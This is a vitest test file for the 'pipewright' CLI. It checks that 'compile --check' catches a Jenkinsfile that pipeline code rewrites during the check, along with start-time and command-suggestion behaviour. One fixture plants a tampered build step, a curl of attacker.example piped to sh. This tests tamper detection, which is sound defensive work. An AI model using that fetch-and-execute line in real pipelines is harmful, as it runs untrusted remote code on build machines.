/**
 * `compile --check` compares the outputs as they were before the project's code ran. Pipeline
 * modules are code: one that rewrites a committed Jenkinsfile to what --check expects while it is
 * being evaluated must not turn a stale or hand-edited file into a pass (issue #10: never let a
 * process speak for the result).
 */
import { lstatSync, readFileSync, writeFileSync } from 'node:fs';
import { checkStartTime } from '../../src/emit/index.ts';
import { afterEach, describe, expect, it } from 'vitest';
import { createTempProject, helloPipeline, runCli, type TempProject } from '../support/temp-project.ts';
import { runCliProcess } from './support/cli-process.ts';

let project: TempProject | undefined;
afterEach(() => project?.remove());

/** The pipeline; with `restore`, its module copies `restore.from` over `restore.to` when evaluated. */
const appPipeline = (restore?: { from: string; to: string }) => `import { copyFileSync } from 'node:fs';
import { definePipeline, echo } from 'pipewright';

${restore ? `copyFileSync(${JSON.stringify(restore.from)}, ${JSON.stringify(restore.to)});` : ''}

export default definePipeline({
  name: 'app',
  agent: 'any',
  options: { timeout: { time: 10, unit: 'MINUTES' } },
  stages: [{ name: 'Hello', steps: [echo('hello')] }],
});
`;

describe('compile --check and outputs changed by project code', () => {
  it('reports a Jenkinsfile that pipeline code rewrote during the check, and fails', async () => {
    project = createTempProject({ 'pipelines/app.pipeline.ts': appPipeline() });
    // The honest output first, kept aside as the "good" copy the module will restore.
    expect((await runCli(['compile', '--root', project.root], project.root)).code).toBe(0);
    const good = readFileSync(project.path('generated/app/Jenkinsfile'), 'utf8');
    project.write('good.txt', good);
    // The committed Jenkinsfile is tampered with (a hand edit that --check would catch), and the
    // module restores the expected text while it is evaluated.
    project.write('generated/app/Jenkinsfile', good.replace("echo 'hello'", "sh 'curl -s https://attacker.example | sh'"));
    project.write('pipelines/app.pipeline.ts', appPipeline({ from: project.path('good.txt'), to: project.path('generated/app/Jenkinsfile') }));

    const result = await runCliProcess(['compile', '--check'], project.root);
    expect(result.stdout).toMatch(/changed: generated\/app\/Jenkinsfile was changed while this check ran/);
    expect(result.code).toBe(1);
  });

  it('passes when nothing changed the outputs', async () => {
    project = createTempProject({ 'pipelines/hello.pipeline.ts': helloPipeline() });
    expect((await runCli(['compile', '--root', project.root], project.root)).code).toBe(0);
    const result = await runCliProcess(['compile', '--check'], project.root);
    expect(result.stdout).not.toMatch(/changed:/);
    expect(result.code).toBe(0);
  });
});

describe('checkStartTime', () => {
  it('is later than the ctime of a file written just before it (Date.now() rounds down and is not)', async () => {
    project = createTempProject({ 'pipelines/hello.pipeline.ts': helloPipeline() });
    await runCli(['compile', '--root', project.root], project.root);
    const file = project.path('generated/hello/Jenkinsfile');
    // What a check right after a compile sees: the last write, then the start time. Repeated,
    // because a write lands in the same millisecond as the next Date.now() only most of the time.
    for (let i = 0; i < 500; i++) {
      writeFileSync(file, readFileSync(file, 'utf8'));
      const since = checkStartTime();
      expect(lstatSync(file).ctimeMs).toBeLessThan(since);
    }
  });
});

describe('compile --check suggests the command the project has', () => {
  it('says `npx pipewright compile` without a compile-pipelines script, `npm run compile-pipelines` with one', async () => {
    project = createTempProject({ 'pipelines/hello.pipeline.ts': helloPipeline() });
    const bare = await runCli(['compile', '--check', '--root', project.root], project.root);
    expect(bare.code).toBe(1);
    expect(bare.stdout).toContain('generated/hello/Jenkinsfile is missing; run `npx pipewright compile`');
    project.write('package.json', JSON.stringify({ scripts: { 'compile-pipelines': 'pipewright compile' } }));
    const scripted = await runCli(['compile', '--check', '--root', project.root], project.root);
    expect(scripted.stdout).toContain('generated/hello/Jenkinsfile is missing; run `npm run compile-pipelines`');
  });
});
